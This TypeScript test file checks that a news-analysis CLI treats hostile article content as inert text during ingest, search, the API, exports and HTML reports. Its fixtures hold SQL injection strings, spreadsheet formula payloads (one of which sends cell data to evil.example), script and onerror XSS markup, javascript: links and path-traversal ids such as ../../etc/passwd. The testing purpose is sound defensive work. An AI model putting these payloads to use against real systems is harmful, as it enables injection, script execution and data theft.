/**
 * Article content is data, never code: hostile titles, outlets and bodies ingested through the
 * real CLI into a real SQLite store, then searched (SQL and FTS syntax in the query), exported
 * (Markdown, CSV, JSON, GeoJSON) and reported (static HTML), checking each output reads the
 * content as text, and that nothing is written outside the directory the user named.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, relative } from 'node:path'
import BetterSqlite3 from 'better-sqlite3'
import { parse as parseCsv } from 'csv-parse/sync'
import MarkdownIt from 'markdown-it'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CliIo } from '../../../src/cli/command.js'
import { main } from '../../../src/cli/main.js'
import type { Analysis } from '../../../src/core/model/analysis.js'
import { fingerprintDb } from './db-fingerprint.js'
import { runCli, STACK_LINE } from './run-cli.js'

const dir = mkdtempSync(join(tmpdir(), 'triangulate-inject-'))
const inputs = join(dir, 'inputs')
const db = join(dir, 'store.db')
afterAll(() => rmSync(dir, { recursive: true, force: true }))

const SQL_TITLE = "Homs'; DROP TABLE documents; --"
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
]
const MARKUP = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
const MARKDOWN =
  '[click](javascript:alert(1)) ![pixel](http://evil.example/p.png) <iframe src=//evil.example>'

/** Articles we wrote, each carrying one kind of payload where a renderer might run it. */
function writeInputs(): void {
  mkdirSync(inputs, { recursive: true })
  const article = (name: string, headerLines: string, body: string) =>
    writeFileSync(join(inputs, `${name}.txt`), `${headerLines}published: 2024-12-06\n\n${body}\n`)
  article(
    'sql-title',
    `outlet: O'Brien "Wire" 100% _real_\ntitle: ${SQL_TITLE}\n`,
    `Opposition fighters took control of Homs on Friday, a war monitor said. '; DELETE FROM claims; -- 50% of residents fled_`,
  )
  FORMULAS.forEach((formula, index) =>
    article(
      `formula-${index}`,
      `outlet: ${formula.replace(/[\t\r]/g, '')}\ntitle: ${formula.replace(/[\t\r]/g, '')}\n`,
      `${formula} Government troops withdrew from Hama on Thursday, residents said.`,
    ),
  )
  article(
    'markup',
    `outlet: <b>Evil</b> Wire\ntitle: ${MARKUP}\n`,
    `Air strikes hit Idlib on Friday, ${MARKUP} residents said. </script><script>window.__pwned=3</script>`,
  )
  article(
    'markdown',
    `outlet: [Wire](javascript:alert(1))\ntitle: # Heading | with | pipes\n`,
    `Rebels entered Aleppo on Friday, ${MARKDOWN} a monitor said.\n\n# Not a heading\n\n| a | b |\n|---|---|`,
  )
  // A feed whose item ids and links try to name files outside any directory.
  writeFileSync(
    join(inputs, 'paths.xml'),
    `<?xml version="1.0"?><rss version="2.0"><channel><title>../../etc</title>
<item><title>../../etc/passwd</title><guid isPermaLink="false">../../etc/passwd</guid><link>file:///etc/passwd</link><pubDate>Fri, 06 Dec 2024 10:00:00 GMT</pubDate><description>Troops withdrew from Daraa on Thursday, residents said.</description></item>
<item><title>..\\..\\windows</title><guid isPermaLink="false">..\\..\\..\\windows\\win.ini</guid><link>../../../tmp/x</link><pubDate>Fri, 06 Dec 2024 11:00:00 GMT</pubDate><description>Shelling hit Raqqa on Friday, a monitor said.</description></item>
</channel></rss>`,
  )
}

/** Every file under `root`, relative to it. */
function tree(root: string): string[] {
  const out: string[] = []
  const walk = (path: string) => {
    for (const entry of readdirSync(path, { withFileTypes: true })) {
      const full = join(path, entry.name)
      if (entry.isDirectory()) walk(full)
      else out.push(relative(root, full))
    }
  }
  walk(root)
  return out.sort()
}

/** `triangulate <args>` through the CLI's main() in this process, output captured. */
async function runInProcess(
  args: string[],
): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = ''
  let stderr = ''
  const io: CliIo = {
    stdout: (text) => void (stdout += text),
    stderr: (text) => void (stderr += text),
    isTTY: false,
    stdin: Readable.from([]),
  }
  const code = await main(args, io)
  return { code, stdout, stderr }
}

let analysis: Analysis
beforeAll(async () => {
  writeInputs()
  const ingest = await runCli(['ingest', inputs, '--db', db])
  expect(ingest.stderr).toBe('')
  expect(ingest.code).toBe(0)
  const json = await runCli(['export', '--format', 'json', '--db', db, '-o', '-'])
  analysis = JSON.parse(json.stdout) as Analysis
}, 120_000)

describe('hostile article content', () => {
  it('is stored as given: the quote in the SQL title survives, every table is still there', () => {
    const raw = new BetterSqlite3(db, { readonly: true })
    try {
      const titles = raw.prepare('SELECT title FROM documents').pluck().all() as string[]
      expect(titles).toContain(SQL_TITLE)
      const tables = raw
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table'")
        .pluck()
        .all() as string[]
      expect(tables).toEqual(expect.arrayContaining(['documents', 'events', 'claims', 'history']))
      expect(raw.prepare('SELECT count(*) FROM documents').pluck().get()).toBe(
        analysis.documents.length,
      )
    } finally {
      raw.close()
    }
    expect(analysis.documents.length).toBe(FORMULAS.length + 5)
    expect(analysis.claims.length).toBeGreaterThan(0)
  })

  it('search treats quotes, %, _, *, FTS operators and SQL as words: no error, no match-all, store unchanged', async () => {
    const before = fingerprintDb(db)
    const queries = [
      "'",
      '"',
      '%',
      '_',
      '%%',
      '*',
      "Homs'; DROP TABLE documents; --",
      '" OR 1=1 --',
      'NEAR(Homs Hama)',
      'Homs OR Hama',
      'Homs AND NOT Hama',
      'title:Homs',
      '{documents}',
      '^Homs',
      '\\',
      'a'.repeat(5000),
      '100%',
      '_real_',
    ]
    for (const query of queries) {
      // In process (the same main() as the binary), to keep 18 runs fast.
      const result = await runInProcess(['search', query, '--db', db, '--json'])
      expect(result.stderr, query).not.toMatch(STACK_LINE)
      expect(result.stderr, query).not.toMatch(/internal error/)
      expect([0, 2], query).toContain(result.code)
      if (result.code !== 0) continue
      const hits = JSON.parse(result.stdout) as { documents: { id: string }[] }
      // Pattern characters are not wildcards: "%" and "_" alone match nothing, never everything.
      if (['%', '_', '%%', '*', "'", '"', '\\'].includes(query))
        expect(hits.documents, query).toEqual([])
    }
    // Words inside the hostile title are still found, as words.
    const found = await runInProcess(['search', 'DROP TABLE documents', '--db', db, '--json'])
    expect(
      (JSON.parse(found.stdout) as { documents: { id: string }[] }).documents.map((hit) => hit.id),
    ).toEqual(['sql-title'])
    expect(fingerprintDb(db)).toEqual(before)
  }, 180_000)

  it('the API search takes the same queries as data (in-memory view over the store)', async () => {
    const { createApp } = await import('../../../src/server/app.js')
    const { createStoreSource } = await import('../../../src/server/store-source.js')
    const { openSqliteStore } = await import('../../../src/store/sqlite/sqlite-store.js')
    const store = await openSqliteStore(db)
    try {
      const app = createApp(createStoreSource(store), { webRoot: null })
      for (const q of ["'", '%', '_', "'; DROP TABLE documents; --", '" OR 1=1 --']) {
        const response = await app.request(`/api/search?q=${encodeURIComponent(q)}`)
        expect(response.status, q).toBe(200)
        const body = (await response.json()) as { documents: { items?: unknown[] } | unknown[] }
        expect(body).toBeTypeOf('object')
      }
      const all = await app.request('/api/documents?limit=500')
      expect(((await all.json()) as { total: number }).total).toBe(analysis.documents.length)
    } finally {
      await store.close()
    }
  })

  it('CSV export: no cell a spreadsheet would run as a formula', async () => {
    const out = join(dir, 'csv')
    const result = await runCli(['export', '--format', 'csv', '--db', db, '-o', out])
    expect(result.code).toBe(0)
    let cells = 0
    let payloads = 0
    for (const name of readdirSync(out)) {
      const rows = parseCsv(readFileSync(join(out, name), 'utf8'), { bom: true }) as string[][]
      for (const row of rows)
        for (const cell of row) {
          cells++
          // A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one).
          expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
          if (/HYPERLINK|cmd\||@SUM|=1\+1/.test(cell)) payloads++
        }
    }
    expect(cells).toBeGreaterThan(100)
    // The payloads are there, as inert text.
    expect(payloads).toBeGreaterThan(FORMULAS.length)
  }, 60_000)

  it('Markdown export renders no HTML, link or image that came from an article', async () => {
    const result = await runCli(['export', '--format', 'md', '--db', db, '-o', '-'])
    expect(result.code).toBe(0)
    const markdown = new MarkdownIt({ html: true, linkify: false })
    const tokens = markdown.parse(result.stdout, {})
    const kinds = new Set<string>()
    const visit = (list: typeof tokens) => {
      for (const token of list) {
        kinds.add(token.type)
        if (token.children) visit(token.children)
      }
    }
    visit(tokens)
    for (const forbidden of ['html_inline', 'html_block', 'link_open', 'image'])
      expect(kinds.has(forbidden), forbidden).toBe(false)
    const html = markdown.render(result.stdout)
    expect(html).not.toMatch(/<(script|img|iframe|a)\b/i)
    expect(html).not.toMatch(/href=["']?javascript:/i)
    // The formula payloads are in the brief, as text.
    expect(html).toContain('=HYPERLINK(')
  }, 60_000)

  it('JSON and GeoJSON exports carry the markup as string data that parses back unchanged', async () => {
    const geo = await runCli(['export', '--format', 'geojson', '--db', db, '-o', '-'])
    expect(geo.code).toBe(0)
    expect(() => JSON.parse(geo.stdout)).not.toThrow()
    const markup = analysis.documents.find((document) => document.id === 'markup')!
    expect(markup.title).toBe(MARKUP)
    expect(markup.text).toContain('</script><script>window.__pwned=3</script>')
  }, 60_000)

  it('the static report holds no script beyond its own, however hostile the articles', async () => {
    const hostile = join(dir, 'hostile-report.html')
    const plain = join(dir, 'plain-report.html')
    const plainInput = join(dir, 'plain.txt')
    writeFileSync(
      plainInput,
      'outlet: Plain Wire\npublished: 2024-12-06\n\nGovernment troops withdrew from Hama on Thursday, residents said.\n',
    )
    expect((await runCli(['report', '--db', db, '-o', hostile])).code).toBe(0)
    expect((await runCli(['report', plainInput, '-o', plain])).code).toBe(0)
    const count = (html: string, pattern: RegExp) => html.match(pattern)?.length ?? 0
    const hostileHtml = readFileSync(hostile, 'utf8')
    const plainHtml = readFileSync(plain, 'utf8')
    for (const pattern of [/<script\b/gi, /<\/script/gi, /<img\b/gi, /<iframe\b/gi])
      expect(count(hostileHtml, pattern), String(pattern)).toBe(count(plainHtml, pattern))
  }, 120_000)

  it('exports write only the files asked for, inside the directory named; feed ids never become paths', async () => {
    const ids = analysis.documents.map((document) => document.id)
    for (const id of ids) expect(id, id).toMatch(/^[\w.-]+$/)
    expect(ids.filter((id) => id.startsWith('item-'))).toHaveLength(2)
    expect(ids.some((id) => id.includes('..'))).toBe(false)

    const sandbox = join(dir, 'sandbox')
    mkdirSync(join(sandbox, 'out'), { recursive: true })
    writeFileSync(join(sandbox, 'keep.txt'), 'keep')
    const before = tree(sandbox)
    const csv = await runCli([
      'export',
      '--format',
      'csv',
      '--db',
      db,
      '-o',
      join(sandbox, 'out', 'tables'),
    ])
    expect(csv.code).toBe(0)
    const md = await runCli([
      'export',
      '--format',
      'md',
      '--db',
      db,
      '-o',
      join(sandbox, 'out', 'brief.md'),
    ])
    expect(md.code).toBe(0)
    const report = await runCli(['report', '--db', db, '-o', join(sandbox, 'out', 'report.html')])
    expect(report.code).toBe(0)
    expect(tree(sandbox)).toEqual(
      [
        ...before,
        'out/brief.md',
        'out/report.html',
        ...['claims', 'disputes', 'documents', 'events', 'sources'].map(
          (name) => `out/tables/${name}.csv`,
        ),
      ].sort(),
    )
    expect(readFileSync(join(sandbox, 'keep.txt'), 'utf8')).toBe('keep')
  }, 120_000)
})
